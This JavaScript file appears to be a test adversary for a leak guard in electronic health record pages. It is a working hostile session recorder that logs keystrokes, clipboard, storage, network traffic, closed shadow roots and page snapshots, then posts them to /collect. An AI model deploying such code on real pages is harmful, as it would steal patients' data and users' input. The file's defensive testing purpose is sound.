// A hostile "session replay" script, as analytics or rrweb-like recorders run in EHR pages.
// It records every DOM mutation (and full snapshots), every postMessage, key, input and
// clipboard event, storage write, and every request the page makes, keeps them in
// window.__spyLog and ships them to its server (/collect). The invariant test asserts that
// no private word ever shows up in anything it saw.
(() => {
  const log = (window.__spyLog = []);
  const note = (kind, data) => { try { log.push({ kind, data: typeof data === 'string' ? data : JSON.stringify(data) }); } catch (e) { log.push({ kind, data: String(data) }); } };
  const serialize = (node) => node?.nodeType === 1 ? node.outerHTML : node?.textContent ?? '';

  const observed = new WeakSet();
  const observe = (root) => {
    if (!root || observed.has(root)) return;
    observed.add(root);
    new MutationObserver((records) => {
      for (const record of records) {
        note('mutation', { type: record.type, target: serialize(record.target).slice(0, 5000), old: record.oldValue,
          added: [...record.addedNodes].map(serialize), removed: [...record.removedNodes].map(serialize),
          attribute: record.attributeName && record.target.getAttribute?.(record.attributeName) });
      }
    }).observe(root, { subtree: true, childList: true, characterData: true, characterDataOldValue: true, attributes: true, attributeOldValue: true });
  };
  observe(document);

  // Capture even closed shadow roots the page's own code (or anyone using the page's
  // prototypes) creates.
  const attachShadow = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    const root = attachShadow.call(this, init);
    note('shadow-root', { host: this.localName, mode: init?.mode });
    observe(root);
    window.__spyShadowRoots = [...(window.__spyShadowRoots ?? []), root];
    return root;
  };

  for (const type of ['keydown', 'keyup', 'keypress', 'input', 'beforeinput', 'change', 'copy', 'cut', 'paste', 'compositionend', 'selectionchange', 'focusin', 'click']) {
    window.addEventListener(type, (event) => {
      const target = event.composedPath?.()[0] ?? event.target;
      note(`event:${type}`, { key: event.key, data: event.data, value: target?.value, text: target?.textContent?.slice?.(0, 5000),
        clipboard: event.clipboardData?.getData?.('text/plain'), selection: document.getSelection?.()?.toString() });
    }, true);
  }
  window.addEventListener('message', (event) => note('message', { data: event.data, origin: event.origin }), true);
  const postMessage = window.postMessage;
  window.postMessage = function (...args) { note('postMessage', args[0]); return postMessage.apply(this, args); };

  for (const storage of [localStorage, sessionStorage]) {
    const setItem = storage.setItem.bind(storage);
    storage.setItem = (key, value) => { note('storage', { key, value }); return setItem(key, value); };
  }
  const originalFetch = window.fetch;
  window.fetch = function (input, init) { note('fetch', { url: String(input?.url ?? input), body: init?.body && String(init.body) }); return originalFetch.apply(this, arguments); };
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (body) { note('xhr', { body: body && String(body) }); return send.apply(this, arguments); };
  const sendBeacon = navigator.sendBeacon.bind(navigator);
  navigator.sendBeacon = (url, body) => { note('beacon', { url: String(url), size: body?.length }); return sendBeacon(url, body); };
  const wsSend = WebSocket.prototype.send;
  WebSocket.prototype.send = function (data) { note('websocket', { data: String(data) }); return wsSend.apply(this, arguments); };

  // rrweb-style full snapshots, of the page and of its same-origin frames.
  const snapshot = () => {
    const frames = [...document.querySelectorAll('iframe')].map((frame) => { try { return frame.contentDocument?.documentElement?.outerHTML; } catch { return null; } });
    const shadows = (window.__spyShadowRoots ?? []).map((root) => root.innerHTML);
    note('snapshot', { html: document.documentElement.outerHTML, frames, shadows, title: document.title,
      local: JSON.stringify({ ...localStorage }), session: JSON.stringify({ ...sessionStorage }) });
  };
  setInterval(snapshot, 700);

  // What reached the page's own handlers: a listener on window in the bubbling phase is the
  // last to see an event, so it sees one only if nothing stopped it on the way (the leak
  // guard's tests count the saves that happened here).
  const saves = (window.__pageSaves = []);
  const SAVE = /save|sign|final|submit|lock/i;
  window.addEventListener('click', (event) => {
    const button = event.composedPath().find((node) => node.matches?.('button, input[type=submit], [role=button]'));
    if (button && SAVE.test(`${button.textContent} ${button.value ?? ''}`)) saves.push({ via: 'click', trusted: event.isTrusted });
  });
  window.addEventListener('submit', (event) => saves.push({ via: 'submit', trusted: event.isTrusted }));
  window.addEventListener('keydown', (event) => {
    if ((event.ctrlKey || event.metaKey) && /^(s|enter)$/i.test(event.key)) saves.push({ via: 'key', trusted: event.isTrusted });
  });

  // Ship what it saw, as a real recorder would.
  let shipped = 0;
  setInterval(() => {
    if (shipped >= log.length) return;
    const batch = JSON.stringify(log.slice(shipped));
    shipped = log.length;
    // A beacon refuses more than 64 KB (a rich editor's page is bigger): post it instead.
    if (!sendBeacon('/collect', batch)) originalFetch('/collect', { method: 'POST', body: batch });
  }, 1000);
})();
